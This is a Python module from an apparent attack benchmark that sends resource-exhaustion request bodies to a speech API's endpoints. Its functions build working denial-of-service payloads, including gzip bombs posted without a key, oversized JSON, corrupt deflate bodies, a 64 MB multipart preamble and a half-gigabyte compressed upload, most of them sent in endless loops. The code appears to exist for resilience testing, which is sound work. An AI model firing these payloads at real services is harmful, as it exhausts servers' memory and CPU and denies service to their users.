"""Request bodies that are small to send and large to read."""

from __future__ import annotations

import zlib
from collections.abc import Iterator
from itertools import chain, repeat
from typing import Final

from benchmarks.attacks.target import Answers, Target
from benchmarks.attacks.wire import CHUNK_BYTES, ask, ask_json, head

BOMB_BYTES: Final = 10 * 2**20
"""On the wire; a thousand times as much inflated."""
JSON_BYTES: Final = 11 * 2**20
PREAMBLE_BYTES: Final = 64 * 2**20
UPLOAD_BYTES: Final = 512 * 2**20
"""Inflated."""
BOUNDARY: Final = "b0und"
FORM: Final = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}
FORM_PATHS: Final = ("/v1/audio/voices/attacked", "/v1/audio/speech/clone")
_GZIP_HEAD: Final = bytes.fromhex("1f8b08000000000000ff")


async def gzip_bombs(target: Target, answers: Answers) -> None:
    """Zeros in gzip to three paths, without a key."""
    fields = {"Content-Encoding": "gzip", "Content-Type": "application/json"}
    while True:
        for path in ("/health", "/v1/audio/speech", "/v1/calls"):
            request = head(target, "POST", path, length=BOMB_BYTES, key=False, headers=fields)
            await ask(target, answers, request, _gzip_of_zeros())


async def large_json(target: Target, answers: Answers) -> None:
    """As much JSON as an upload may have, to a path that takes a text."""
    body = b'{"input":"a","more":[' + b"[1]," * ((JSON_BYTES - 100) // 4) + b"1]}"
    while True:
        await ask_json(target, answers, "/v1/audio/speech", body)


async def corrupt_deflate(target: Target, answers: Answers) -> None:
    """A body that says that it is compressed and is not."""
    fields = {"Content-Encoding": "deflate", "Content-Type": "application/json"}
    for _ in range(20):
        for path in ("/v1/calls", "/v1/audio/speech"):
            await ask(target, answers, head(target, "POST", path, length=100, headers=fields), [b"\xff" * 100])


async def multipart_preamble(target: Target, answers: Answers) -> None:
    """A form that does not begin for 64 MB."""
    line = b"x" * 62 + b"\r\n"
    lines = line * (CHUNK_BYTES // len(line))
    while True:
        for path in FORM_PATHS:
            request = head(target, "POST", path, length=PREAMBLE_BYTES, headers=FORM)
            await ask(target, answers, request, repeat(lines, PREAMBLE_BYTES // len(lines)))


async def compressed_upload(target: Target, answers: Answers) -> None:
    """A file of half a gigabyte of silence, in gzip."""
    opening = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.wav"\r\n\r\n'.encode()
    packer = zlib.compressobj(wbits=31)
    start = packer.compress(opening) + packer.flush(zlib.Z_FULL_FLUSH)
    pieces = [start, *_zeros(UPLOAD_BYTES // 2**20)]
    fields = FORM | {"Content-Encoding": "gzip"}
    while True:
        for path in FORM_PATHS:
            await ask(target, answers, head(target, "POST", path, length=sum(map(len, pieces)), headers=fields), pieces)


def _gzip_of_zeros() -> Iterator[bytes]:
    """BOMB_BYTES of it; its end is missing, as nobody gets so far."""
    left = BOMB_BYTES
    for piece in chain((_GZIP_HEAD,), _zeros(BOMB_BYTES)):
        yield piece[:left]
        left -= len(piece)
        if left <= 0:
            return


def _zeros(mebibytes: int) -> Iterator[bytes]:
    """So much nothing in deflate, each MiB in a block that depends on none before it."""
    packer = zlib.compressobj(level=9, wbits=-15)
    block = packer.compress(bytes(2**20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return repeat(block, mebibytes)
